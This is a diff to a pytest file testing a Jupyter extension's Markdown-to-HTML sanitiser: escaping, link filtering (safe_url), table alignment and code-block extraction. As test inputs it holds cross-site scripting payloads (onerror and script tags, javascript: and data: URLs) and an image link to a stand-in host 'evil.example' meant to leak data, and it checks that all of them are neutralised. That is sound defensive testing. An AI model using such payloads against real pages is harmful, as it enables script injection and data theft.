@@ -6,7 +6,7 @@ import re
 
 import pytest
 
-from jupyter_providers._render import markdown_html, safe_markdown
+from jupyter_providers._render import code_html, code_of, markdown_html, safe_url, text_html
 
 ATTACKS = [
     "<img src=x onerror=alert(1)>",
@@ -60,16 +60,14 @@ def test_markdown_html_keeps_markdown() -> None:
     pres = re.findall(r"<pre [^>]*>", out)
     assert len(pres) == 2 and all('class="jp-providers-code"' in p and "overflow-x:auto" in p for p in pres)
     assert "monospace" in pres[0]
-    assert '<code class="language-python">if a &lt; b:\n    print(&#x27;&lt;b&gt;&#x27;)' in out or (
-        "<code class=\"language-python\">if a &lt; b:\n    print('&lt;b&gt;')" in out
-    )
+    assert "<code>if a &lt; b:\n    print('&lt;b&gt;')" in out
 
 
 def test_markdown_html_shows_images_as_text() -> None:
     """An image would be fetched by the browser as soon as it shows: a way to leak data."""
     out = markdown_html("![secret](https://evil.example/leak?q=42)")
-    assert "<img" not in out and "src=" not in out
-    assert "secret" in out  # the alt text and the address stay readable, as a plain link
+    assert "<img" not in out and "src=" not in out and "evil.example" not in out
+    assert "[image: secret]" in out  # the alt text stays readable
 
 
 def test_markdown_html_code_info_string_is_escaped() -> None:
@@ -77,34 +75,26 @@ def test_markdown_html_code_info_string_is_escaped() -> None:
     assert "<script" not in out and "code" in out
 
 
-# -- safe_markdown (Markdown in, Markdown out, for a renderer that allows HTML) -----------------
-def test_safe_markdown_escapes_html_outside_code() -> None:
-    out = safe_markdown("Hi <script>alert(1)</script> <img src=x onerror=alert(1)> & `<b>code</b>`")
-    assert "<script" not in out and "<img" not in out
-    assert "&lt;script&gt;" in out and "&amp;" in out
-    assert "`<b>code</b>`" in out  # code spans are shown literally by any renderer
+def test_only_web_mail_and_in_page_links_keep_a_target() -> None:
+    for ok in ("https://a.example/", "HTTP://a.example", "mailto:a@b.c", "#part"):
+        assert safe_url(ok), ok
+    for bad in ("/api/kernels", "//evil.example/", "relative/path", "javascript:alert(1)", " https://a", "data:,x", ""):
+        assert not safe_url(bad), bad
+    assert "<a " not in markdown_html("[k](/api/kernels) [e](//evil.example/x) [r](notes.md)")
 
 
-def test_safe_markdown_keeps_fences_and_quotes() -> None:
-    src = "> quoted\n\n```html\n<script>ok in code</script>\n```\n\n<b>after</b>"
-    out = safe_markdown(src)
-    assert out.startswith("> quoted")
-    assert "```html\n<script>ok in code</script>\n```" in out
-    assert out.endswith("&lt;b&gt;after&lt;/b&gt;")
+def test_table_alignment_survives_without_style() -> None:
+    out = markdown_html("| a | b |\n|:-|-:|\n| 1 | 2 |")
+    assert '<th align="left">a</th>' in out and '<td align="right">2</td>' in out and "style" not in out
 
 
-@pytest.mark.parametrize(
-    "link", ["[x](javascript:alert(1))", "[x]( JavaScript:alert(1))", "[x](data:text/html,hi)", "[x](file:///etc)"]
-)
-def test_safe_markdown_blocks_script_links(link: str) -> None:
-    out = safe_markdown(link)
-    assert out == "[x](#blocked-link)"
+def test_text_html_shows_every_character_as_itself() -> None:
+    assert text_html("<b>m&m</b> *x* `y`") == "&lt;b&gt;m&amp;m&lt;/b&gt; *x* `y`"
 
 
-def test_safe_markdown_blocks_bare_script_schemes() -> None:
-    assert "javascript:" not in safe_markdown("<javascript:alert(1)>").lower()
-
-
-def test_the_two_agree_on_the_attacks() -> None:
-    for attack in ATTACKS:
-        assert "<" + attack[1:4] not in markdown_html(safe_markdown(attack))
+def test_code_of_takes_the_first_block_as_commonmark_sees_it() -> None:
+    assert code_of("See:\n\n```js x\nlet a = 1\n```\n\n```py\nb\n```") == ("js", "let a = 1")
+    assert code_of("- ```sh\n  ls\n  ```") == ("sh", "ls")  # a fence in a list item
+    assert code_of("````\n```\ninner\n```\n````") == ("python", "```\ninner\n```")
+    assert code_of("no code here") == ("python", "no code here")
+    assert "&lt;script&gt;" in code_html("<script>alert(1)</script>", "html")
